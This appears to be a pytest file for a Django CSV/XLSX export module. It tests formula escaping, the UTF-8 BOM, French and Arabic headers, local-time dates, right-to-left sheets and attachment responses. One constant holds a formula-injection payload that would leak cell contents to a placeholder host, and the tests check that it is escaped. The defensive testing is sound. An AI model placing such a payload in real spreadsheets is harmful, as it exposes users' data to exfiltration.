"""The one export module: formula escaping, BOM, translated headers, real dates, sheet direction."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from exports import Column, escape_formula, export_response, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
COLUMNS = [
    Column("name", gettext_lazy("Name")),
    Column("score", gettext_lazy("Status")),
    Column("at", gettext_lazy("Enrolled at")),
]
CASABLANCA = zoneinfo.ZoneInfo("Africa/Casablanca")


def test_formula_injection_is_escaped():
    """Strings starting with =, +, -, @, tab or CR become text; numbers are untouched."""
    values = ["=1+1", "+x", "-x", "@SUM(A1)", "\t=1", "\r=1", "ok", -3, 2.5]
    assert [escape_formula(v) for v in values] == ["'=1+1", "'+x", "'-x", "'@SUM(A1)", "'\t=1", "'\r=1", "ok", -3, 2.5]


def test_csv_has_a_bom_escapes_formulas_and_writes_local_times():
    """The CSV starts with a UTF-8 BOM, a hostile cell is prefixed, numbers stay bare and an aware
    datetime is written in the site's time zone."""
    at = datetime.datetime(2026, 3, 1, 12, 0, tzinfo=datetime.UTC)
    data = to_csv(COLUMNS, [{"name": HOSTILE, "score": -3, "at": at}, {"name": "أمينة"}], language="fr")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Nom", "État", "Inscrit le"]
    local = at.astimezone(CASABLANCA).replace(tzinfo=None).isoformat(sep=" ", timespec="seconds")
    assert rows[1] == ["'" + HOSTILE, "-3", local]
    assert rows[2] == ["أمينة", "", ""]


def test_xlsx_cells_are_strings_dates_are_dates_and_arabic_reads_right_to_left():
    """In the XLSX the hostile name is a string cell holding the exact text (not a formula), a date
    is a date cell, the headers are Arabic and the sheet is right to left."""
    rows = [{"name": HOSTILE, "score": 7, "at": datetime.date(2026, 3, 1)}]
    sheet = load_workbook(
        io.BytesIO(to_xlsx(COLUMNS, rows, language="ar", sheet_title=gettext_lazy("Learners")))
    ).active
    assert [c.value for c in sheet[1]] == ["الاسم", "الحالة", "تاريخ التسجيل"]
    name, score, at = sheet[2]
    assert name.data_type == "s" and name.value == HOSTILE and name.quotePrefix
    assert score.data_type == "n" and score.value == 7
    assert at.is_date and at.value == datetime.datetime(2026, 3, 1)
    assert sheet.sheet_view.rightToLeft is True
    assert sheet.title == "المتعلمون"


def test_french_sheet_reads_left_to_right():
    """Only an Arabic sheet is right to left."""
    sheet = load_workbook(io.BytesIO(to_xlsx(COLUMNS, [], language="fr"))).active
    assert not sheet.sheet_view.rightToLeft
    assert [c.value for c in sheet[1]] == ["Nom", "État", "Inscrit le"]


def test_response_is_an_attachment_and_an_unknown_format_is_404():
    """A download is an attachment named after the format; any other format is a 404."""
    from django.http import Http404

    response = export_response(fmt="csv", columns=COLUMNS, rows=[], filename="report-ü", language="ar")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;") and "report-" in response["Content-Disposition"]
    with pytest.raises(Http404):
        export_response(fmt="pdf", columns=COLUMNS, rows=[], filename="x")
